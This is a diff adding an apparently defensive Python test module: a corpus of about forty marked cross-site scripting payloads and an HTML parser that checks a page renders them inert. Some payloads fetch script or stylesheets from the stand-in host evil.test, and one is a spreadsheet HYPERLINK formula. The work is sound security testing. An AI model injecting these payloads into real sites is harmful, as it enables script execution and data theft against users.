@@ -1,0 +1,148 @@
+"""An XSS corpus and a checker that proves a page rendered it inert."""
+
+from html.parser import HTMLParser
+
+MARK = "xq"  # every payload carries "xq<n>", so where it lands can be found
+
+_RAW = [
+    "<script>alert('{m}')</script>",
+    "<SCRIPT SRC=//evil.test/{m}.js></SCRIPT>",
+    "<img src=x onerror=alert('{m}')>",
+    '<img src="x" onerror="alert(\'{m}\')" />',
+    "<svg onload=alert('{m}')>",
+    "<svg><script>alert('{m}')</script></svg>",
+    "<svg/onload=alert('{m}')>",
+    "<body onload=alert('{m}')>",
+    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
+    "<a href=\"javascript:alert('{m}')\">click {m}</a>",
+    "javascript:alert('{m}')",
+    "JaVaScRiPt:alert('{m}')",
+    "<a href=\"&#106;avascript:alert('{m}')\">{m}</a>",
+    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
+    "%3Cscript%3Ealert('{m}')%3C/script%3E",
+    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
+    "\"><script>alert('{m}')</script>",
+    "'><img src=x onerror=alert('{m}')>",
+    '" onmouseover="alert(\'{m}\')" x="',
+    "' autofocus onfocus='alert(\"{m}\")' x='",
+    "<div style=\"background:url(javascript:alert('{m}'))\">{m}</div>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
+    "<details open ontoggle=alert('{m}')>",
+    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{m}</object>',
+    "<embed src=\"javascript:alert('{m}')\">",
+    "<form action=\"javascript:alert('{m}')\"><button>{m}</button></form>",
+    "<input autofocus onfocus=alert('{m}')>",
+    "<marquee onstart=alert('{m}')>{m}</marquee>",
+    '<base href="https://evil.test/{m}/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
+    "<link rel=stylesheet href=https://evil.test/{m}.css>",
+    "<style>@import 'https://evil.test/{m}.css';</style>",
+    'https://example.org/{m}"onmouseover="alert(1)',
+    "https://example.org/?q=<script>{m}</script>",
+    "{{{{ {m} }}}} {{% debug %}} ${{{m}}}",
+    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
+    "<!--<script>alert('{m}')</script>-->",
+    "<![CDATA[<script>alert('{m}')</script>]]>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
+    '=HYPERLINK("https://evil.test/{m}","click")',
+]
+
+PAYLOADS = [raw.replace("{m}", f"{MARK}{n}") for n, raw in enumerate(_RAW)]
+assert len(PAYLOADS) >= 30
+
+
+def short(payload: str, limit: int) -> str:
+    return payload[:limit]
+
+
+# Attributes in which escaped resident text may legitimately appear.
+SAFE_ATTRIBUTES = {"value", "title", "alt", "aria-label", "placeholder", "content", "data-label"}
+DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "base", "meta"}
+
+
+class InertChecker(HTMLParser):
+    """Collects every place a marker ended up outside plain text."""
+
+    def __init__(self, strict=True):
+        super().__init__(convert_charrefs=True)
+        self.strict = strict  # False for the Wagtail admin, which has handlers of its own
+        self.problems = []
+        self.stack = []
+
+    def handle_starttag(self, tag, attrs):
+        self._check_tag(tag, attrs)
+        if tag not in {"br", "img", "input", "meta", "link", "hr", "base", "embed"}:
+            self.stack.append(tag)
+
+    def handle_startendtag(self, tag, attrs):
+        self._check_tag(tag, attrs)
+
+    def handle_endtag(self, tag):
+        if tag in self.stack:
+            while self.stack and self.stack.pop() != tag:
+                pass
+
+    def _check_tag(self, tag, attrs):
+        attrs = [(name, value or "") for name, value in attrs]
+        if MARK in tag:
+            self.problems.append(f"tag <{tag}>")
+        rel = dict(attrs).get("rel", "")
+        for name, value in attrs:
+            lowered = value.strip().lower()
+            if name.startswith("on") and (self.strict or MARK in value):
+                self.problems.append(f"event handler {name}= on <{tag}>")
+            if MARK in name:
+                self.problems.append(f"attribute {name} on <{tag}>")
+            if name in {"href", "src", "action", "formaction", "data", "xlink:href"} and (
+                lowered.startswith(("javascript:", "vbscript:", "data:text/html"))
+            ):
+                self.problems.append(f"{name}={value!r} on <{tag}>")
+            if MARK not in value:
+                continue
+            if name in SAFE_ATTRIBUTES:
+                continue
+            if (
+                name in {"href", "action"}
+                and lowered.startswith(("?", "#", "/"))
+                and not (lowered.startswith("//"))
+            ):
+                continue  # a link within the site carrying an (encoded) query
+            if (
+                name == "href"
+                and tag == "a"
+                and lowered.startswith(("http://", "https://", "mailto:"))
+                and set(rel.split()) >= {"nofollow", "ugc", "noopener"}
+            ):
+                continue  # an auto-linked URL from resident text
+            self.problems.append(f"{name}={value!r} on <{tag}>")
+        if tag in DANGEROUS_TAGS and any(MARK in value for _, value in attrs):
+            self.problems.append(f"<{tag}> carrying a payload")
+
+    def handle_data(self, data):
+        if MARK in data and self.stack and self.stack[-1] in {"script", "style"}:
+            self.problems.append(f"payload inside <{self.stack[-1]}>")
+
+    def handle_comment(self, data):
+        if MARK in data:
+            self.problems.append("payload inside an HTML comment")
+
+
+def assert_inert(html: str, where: str, strict: bool = True):
+    checker = InertChecker(strict=strict)
+    checker.feed(html)
+    checker.close()
+    assert checker.problems == [], f"{where}: {checker.problems[:5]}"
+
+
+def marker_of(payload: str) -> str:
+    import re
+
+    return re.search(MARK + r"\d+", payload).group(0)
+
+
+def assert_shown(html: str, payload: str, where: str):
+    """The payload's marker reached the page (so the inertness check was not vacuous)."""
+    import re
+
+    marker = marker_of(payload)
+    assert re.search(marker + r"(?!\d)", html), f"{where}: {marker} not shown"
